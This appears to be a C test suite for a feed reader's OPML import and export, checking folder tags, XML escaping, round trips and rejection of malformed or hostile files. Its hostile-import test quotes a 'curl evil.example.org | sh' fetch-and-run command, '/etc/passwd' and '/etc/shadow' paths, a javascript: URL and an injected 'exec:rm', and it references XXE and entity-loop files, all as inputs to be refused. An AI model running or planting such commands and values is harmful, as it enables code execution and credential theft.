/* OPML: import of nested folders and categories, malformed and hostile
 * files, export escaping, and round trips through the urls file. */
#include "config.h"

#include "check.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "source/opml.h"
#include "source/urls.h"
#include "util/xalloc.h"

static const char *or_none(const char *s)
{
	return s ? s : "(none)";
}

static char *data(const char *name)
{
	const char *d = getenv("top_srcdir");
	return xasprintf("%s/tests/fetch/data/%s", d && *d ? d : ABS_TOP_SRCDIR,
	                 name);
}

static char *slurp(const char *path)
{
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	char *buf = xmalloc(1 << 20);
	size_t n = fread(buf, 1, (1 << 20) - 1, f);
	buf[n] = '\0';
	fclose(f);
	return buf;
}

static char *tags_text(const struct urls_entry *e)
{
	char *s = xstrdup("");
	for (size_t i = 0; i < e->n_tags; i++) {
		char *t = xasprintf("%s%s%s", s, i ? "|" : "", e->tags[i]);
		free(s);
		s = t;
	}
	return s;
}

struct want {
	const char *url;
	const char *tags; /* joined with | */
};

static void expect_entries(const struct urls *u, const struct want *w, size_t n,
                           const char *what)
{
	CHECK(u->n == n, "%s: %zu feeds, expected %zu", what, u->n, n);
	for (size_t i = 0; i < n && i < u->n; i++) {
		char *t = tags_text(&u->entries[i]);
		CHECK(strcmp(u->entries[i].url, w[i].url) == 0 &&
		              strcmp(t, w[i].tags) == 0,
		      "%s: feed %zu is '%s' [%s], expected '%s' [%s]", what, i,
		      u->entries[i].url, t, w[i].url, w[i].tags);
		free(t);
	}
}

static const struct want nested[] = {
        {"https://feeds.example.org/persian/rss.xml", "News|خبرها"},
        {"https://www.example.com/fa/rss?a=1&b=2", "News|خبرها"},
        {"https://world.example.net/feed", "News|Tech|Science/Space|Daily"},
        {"http://top.example.org/atom.xml", ""},
        {"https://he.example.org/rss", "Old style folder"},
};

static void test_import(void)
{
	char *path = data("nested.opml");
	struct urls *out = urls_parse("", "x");
	size_t skipped = 99;
	char *error = NULL;
	CHECK(opml_read(path, false, NULL, out, &skipped, &error), "nested: %s",
	      or_none(error));
	expect_entries(out, nested, sizeof(nested) / sizeof(nested[0]),
	               "nested");
	CHECK(skipped == 1,
	      "nested: skipped %zu, expected 1 (the repeated feed)", skipped);
	urls_free(out);

	/* Feeds already subscribed are skipped. */
	struct urls *known =
	        urls_parse("http://top.example.org/atom.xml\n", "known");
	out = urls_parse("", "x");
	CHECK(opml_read(path, false, known, out, &skipped, &error),
	      "nested with known: %s", or_none(error));
	CHECK(out->n == 4 && skipped == 2, "with known: %zu new, %zu skipped",
	      out->n, skipped);
	urls_free(out);
	urls_free(known);
	free(path);

	struct {
		const char *file;
		struct want want;
	} one[] = {
	        {"opml1.opml", {"http://cafe.example.org/rss", "Cafés"}},
	        {"latin1.opml", {"http://latin1.example.org/rss", ""}},
	        {"xxe-text.opml", {"http://xxe.example.org/rss", "Folder"}},
	};
	for (size_t i = 0; i < sizeof(one) / sizeof(one[0]); i++) {
		path = data(one[i].file);
		out = urls_parse("", "x");
		CHECK(opml_read(path, false, NULL, out, &skipped, &error),
		      "%s: %s", one[i].file, or_none(error));
		expect_entries(out, &one[i].want, 1, one[i].file);
		urls_free(out);
		free(path);
	}
}

/* An OPML file from someone else: only its http and https feeds are
 * taken (file: URLs and paths when asked for), each other outline is
 * named in a message, and a line break can't add a title or a line. */
static void test_import_hostile(void)
{
	static const char *const web[] = {
	        "https://good.example.org/rss",
	        "HTTPS://Upper.example.org/rss",
	        "http://plain.example.org/rss",
	};
	static const char *const refused[] = {
	        ":8: outline \"Run\" (exec:curl evil.example.org | sh): not an "
	        "http or https URL; left out",
	        ":9: outline \"Filter\"",
	        ":10: outline \"Query\"",
	        ":11: outline \"Passwords\" (file:///etc/passwd): a local "
	        "file; "
	        "left out (--local-feeds imports it)",
	        ":12: outline \"Path\" (/etc/shadow): a local file",
	        ":13: outline \"Script\" (javascript:alert(1)): not an http",
	        ":14: outline \"Split ~Injected\" (https://split.example.org/ "
	        "~Injected exec:rm): not a URL (it holds spaces",
	};
	char *path = data("hostile.opml");
	for (int local = 0; local < 2; local++) {
		struct urls *out = urls_parse("", "x");
		size_t skipped = 0, n_refused = 7 - 2 * (size_t)local;
		char *error = NULL;
		CHECK(opml_read(path, local, NULL, out, &skipped, &error),
		      "hostile: %s", or_none(error));
		CHECK(out->n == 3 + 2 * (size_t)local &&
		              out->n_errors == n_refused,
		      "local %d: %zu feeds, %zu messages", local, out->n,
		      out->n_errors);
		for (size_t i = 0; i < 3; i++)
			CHECK(urls_find(out, web[i]), "local %d: no %s", local,
			      web[i]);
		for (size_t i = 0, k = 0; i < 7 && k < out->n_errors; i++) {
			if (local && (i == 3 || i == 4))
				continue;
			CHECK(strstr(out->errors[k], path) == out->errors[k] &&
			              strstr(out->errors[k], refused[i]),
			      "message '%s', expected '%s'", out->errors[k],
			      refused[i]);
			k++;
		}
		urls_free(out);
	}
	free(path);
}

/* Hostile or broken files: a clear error naming the file, the list
 * unchanged, and nothing of /etc/passwd anywhere. */
static void test_bad_files(void)
{
	char *passwd = slurp("/etc/passwd");
	CHECK(passwd && strstr(passwd, "root:"),
	      "/etc/passwd has no root entry to look for");
	free(passwd);
	struct {
		const char *file;
		const char *message; /* NULL: the file is accepted */
	} cases[] = {
	        {"malformed.opml", "malformed.opml:8: Premature end of data"},
	        {"notopml.xml", "not an OPML file (its root element is <rss>"},
	        {"nobody.opml", "not an OPML file (no <body>)"},
	        {"no-such-file.opml",
	         "no-such-file.opml: No such file or directory"},
	        {"xxe-attr.opml", "xxe-attr.opml:4: "},
	        {"xxe-param.opml", NULL},
	        {"xxe-text.opml", NULL},
	        {"laughs.opml",
	         "laughs.opml:13: Detected an entity reference loop"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *path = data(cases[i].file);
		struct urls *out =
		        urls_parse("https://before.example.org/\n", "x");
		size_t skipped = 0;
		char *error = NULL;
		bool ok = opml_read(path, false, NULL, out, &skipped, &error);
		if (cases[i].message) {
			CHECK(!ok && error && strstr(error, cases[i].message),
			      "%s: error '%s', expected '%s'", cases[i].file,
			      error ? error : "(none)", cases[i].message);
			CHECK(out->n == 1, "%s: the list changed on error",
			      cases[i].file);
		} else {
			CHECK(ok, "%s: %s", cases[i].file, or_none(error));
		}
		CHECK(!error || !strstr(error, "root:"),
		      "%s: /etc/passwd in the error", cases[i].file);
		for (size_t k = 0; k < out->n; k++) {
			const struct urls_entry *e = &out->entries[k];
			CHECK(!strstr(e->url, "root:"),
			      "%s: /etc/passwd in a URL", cases[i].file);
			for (size_t t = 0; t < e->n_tags; t++)
				CHECK(!strstr(e->tags[t], "root:") &&
				              strlen(e->tags[t]) < 100,
				      "%s: entity text in a tag",
				      cases[i].file);
		}
		free(error);
		urls_free(out);
		free(path);
	}
}

static const char *titles(void *ctx, const char *url)
{
	(void)ctx;
	return strcmp(url, "https://a.example.org/rss") == 0
	               ? "From the cache: A & B"
	               : NULL;
}

static char *export_text(const struct urls *u, opml_title_fn *title_of)
{
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	CHECK(opml_export(out, u, title_of, NULL), "export failed");
	fclose(out);
	return text;
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "wb");
	if (!f || fputs(text, f) < 0 || fclose(f) != 0) {
		perror(path);
		exit(1);
	}
}

static void test_export(const char *tmp)
{
	const char *urls_text = "https://a.example.org/rss\n"
	                        "https://b.example.org/rss?x=1&y=<2> \"A & B\" "
	                        "\"quote\\\"s\" \"~Tom & \\\"Jerry\\\" <3>\"\n"
	                        "https://c.example.org/rss خبرها \"!\"\n"
	                        "\"query:Unread:unread = \\\"yes\\\"\"\n"
	                        "exec:/bin/true\n"
	                        "https://d.example.org/rss \"A & B\"\n";
	struct urls *u = urls_parse(urls_text, "urls");
	CHECK(u->n_errors == 0, "export input has errors");
	char *text = export_text(u, titles);
	const char *must[] = {
	        "<opml version=\"2.0\">",
	        "text=\"From the cache: A &amp; B\" title=\"From the cache: A "
	        "&amp; B\" "
	        "xmlUrl=\"https://a.example.org/rss\"",
	        "<outline text=\"A &amp; B\" title=\"A &amp; B\">",
	        "text=\"Tom &amp; &quot;Jerry&quot; &lt;3&gt;\"",
	        "xmlUrl=\"https://b.example.org/rss?x=1&amp;y=&lt;2&gt;\" "
	        "category=\"/quote&quot;s\"",
	        "<outline text=\"خبرها\" title=\"خبرها\">",
	        "text=\"https://c.example.org/rss\"",
	};
	for (size_t i = 0; i < sizeof(must) / sizeof(must[0]); i++)
		CHECK(strstr(text, must[i]), "export lacks %s in\n%s", must[i],
		      text);
	CHECK(!strstr(text, "query:") && !strstr(text, "exec:"),
	      "export has newsboat specials");
	/* One folder for the two feeds tagged "A & B". */
	const char *folder = strstr(text, "<outline text=\"A &amp; B\"");
	CHECK(folder && !strstr(folder + 1, "<outline text=\"A &amp; B\""),
	      "folder repeated");

	/* Round trip: export, read back, the same feeds with the same tags. */
	char *path = xasprintf("%s/export.opml", tmp);
	write_file(path, text);
	struct urls *back = urls_parse("", "x");
	size_t skipped;
	char *error = NULL;
	CHECK(opml_read(path, false, NULL, back, &skipped, &error),
	      "export does not read back: %s", or_none(error));
	const struct want round[] = {
	        {"https://a.example.org/rss", ""},
	        {"https://b.example.org/rss?x=1&y=<2>", "A & B|quote\"s"},
	        {"https://d.example.org/rss", "A & B"},
	        {"https://c.example.org/rss", "خبرها"},
	};
	expect_entries(back, round, 4, "round trip");
	free(text);
	urls_free(back);

	/* Control characters, line breaks and broken UTF-8 still give XML. */
	struct urls *odd = urls_parse("", "x");
	urls_add(odd, "https://odd.example.org/rss", NULL, 0,
	         "line\none\ttab\x01 bad\xff end");
	urls_add(odd, "https://odd.example.org/2", NULL, 0,
	         "esc\x1b[2J c1\xc2\x9b del\x7f");
	text = export_text(odd, NULL);
	CHECK(strstr(text, "text=\"line&#10;one&#9;tab\xEF\xBF\xBD "
	                   "bad\xEF\xBF\xBD end\""),
	      "odd title exported as\n%s", text);
	CHECK(strstr(text, "text=\"esc\xEF\xBF\xBD[2J c1\xEF\xBF\xBD "
	                   "del\xEF\xBF\xBD\""),
	      "terminal controls exported as\n%s", text);
	write_file(path, text);
	back = urls_parse("", "x");
	CHECK(opml_read(path, false, NULL, back, &skipped, &error),
	      "odd export does not parse: %s", or_none(error));
	CHECK(back->n == 2, "odd export: %zu feeds", back->n);
	free(text);
	urls_free(back);
	urls_free(odd);
	unlink(path);
	free(path);
	urls_free(u);
}

/* --import into a urls file twice: the second adds nothing; comments stay. */
static void test_import_into_file(const char *tmp)
{
	char *urls = xasprintf("%s/urls", tmp);
	const char *before =
	        "# my subscriptions\nhttp://top.example.org/atom.xml mine\n";
	write_file(urls, before);
	char *opml = data("nested.opml");
	size_t added = 0, skipped = 0;
	char *error = NULL;
	CHECK(opml_import(opml, urls, false, &added, &skipped, &error),
	      "import: %s", or_none(error));
	CHECK(added == 4 && skipped == 2, "import: %zu added, %zu skipped",
	      added, skipped);
	char *text = slurp(urls);
	CHECK(text && strncmp(text, before, strlen(before)) == 0,
	      "import changed old lines:\n%s", or_none(text));
	CHECK(text && strstr(text, "\nhttps://www.example.com/fa/rss?a=1&b=2 "
	                           "News خبرها\n"),
	      "import wrote:\n%s", or_none(text));
	struct urls *u = urls_load(urls, &error);
	CHECK(u && u->n == 5 && u->n_errors == 0,
	      "imported file reloads with %zu feeds", u ? u->n : 0);

	/* And exporting that file and importing the export changes nothing. */
	char *exported = export_text(u, NULL);
	char *again = xasprintf("%s/again.opml", tmp);
	write_file(again, exported);
	CHECK(opml_import(again, urls, false, &added, &skipped, &error),
	      "re-import: %s", or_none(error));
	CHECK(added == 0 && skipped == 5, "re-import: %zu added, %zu skipped",
	      added, skipped);
	char *text2 = slurp(urls);
	CHECK(text && text2 && strcmp(text, text2) == 0,
	      "re-import changed the file");

	char *bad = data("malformed.opml");
	CHECK(!opml_import(bad, urls, false, &added, &skipped, &error) && error,
	      "malformed import passed");
	free(error);
	error = NULL;
	free(text2);
	text2 = slurp(urls);
	CHECK(text && text2 && strcmp(text, text2) == 0,
	      "failed import changed the file");

	unlink(again);
	unlink(urls);
	free(bad);
	free(again);
	free(exported);
	urls_free(u);
	free(text);
	free(text2);
	free(opml);
	free(urls);
}

int main(void)
{
	char *tmp = xstrdup("/tmp/akhbar-opml-XXXXXX");
	if (!mkdtemp(tmp)) {
		perror("mkdtemp");
		return 1;
	}
	test_import();
	test_import_hostile();
	test_bad_files();
	test_export(tmp);
	test_import_into_file(tmp);
	rmdir(tmp);
	free(tmp);
	return check_result("test_opml");
}
